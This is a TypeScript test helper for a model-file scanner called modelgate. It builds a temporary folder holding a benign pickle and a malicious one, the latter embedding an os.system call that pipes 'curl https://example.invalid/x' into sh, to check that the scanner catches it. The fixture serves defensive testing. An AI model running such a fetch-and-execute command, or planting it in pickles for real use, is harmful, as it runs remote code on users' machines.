/** Shared by the CI drop-in tests: the repo root, the CLI's flags, and a folder of two pickles. */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { runCli } from '../helpers/cli.js';
import { osSystemPickle, plainPickle } from '../helpers/pickles.js';

export const ROOT = fileURLToPath(new URL('../..', import.meta.url));

/** Every long flag `modelgate scan --help` lists (`--no-hash` and `--hash` alike). */
export function scanFlags(): Set<string> {
  const help = runCli(['scan', '--help']);
  if (help.status !== 0) throw new Error(`scan --help exited ${help.status}: ${help.stderr}`);
  const flags = new Set<string>();
  for (const m of help.stdout.matchAll(/(?:^|[\s,])(--[a-z][a-z0-9-]*)/gm)) flags.add(m[1]!);
  return flags;
}

/** The long flags written in `text` (a script, a YAML value), `--` alone left out. */
export function flagsIn(text: string): string[] {
  return [...new Set([...text.matchAll(/(?<![\w-])(--[a-z][a-z0-9-]*)/g)].map((m) => m[1]!))];
}

export interface Models {
  dir: string;
  benign: string;
  malicious: string;
}

/** A fresh folder (a git work tree, so SARIF URIs are relative to it) with `benign/` and `malicious/`. */
export function models(): Models {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'mg-ci-')));
  mkdirSync(join(dir, '.git'));
  mkdirSync(join(dir, 'benign'));
  mkdirSync(join(dir, 'malicious'));
  const benign = join(dir, 'benign', 'model.pkl');
  const malicious = join(dir, 'malicious', 'model.pkl');
  writeFileSync(benign, plainPickle());
  writeFileSync(malicious, osSystemPickle('curl https://example.invalid/x | sh'));
  return { dir, benign, malicious };
}

/** Runs a script under `shell` with `env` added to this process's environment. */
export function runScript(shell: string, script: string, args: string[], env: Record<string, string>, cwd: string) {
  return spawnSync(shell, [script, ...args], { cwd, encoding: 'utf8', env: { ...process.env, ...env } });
}
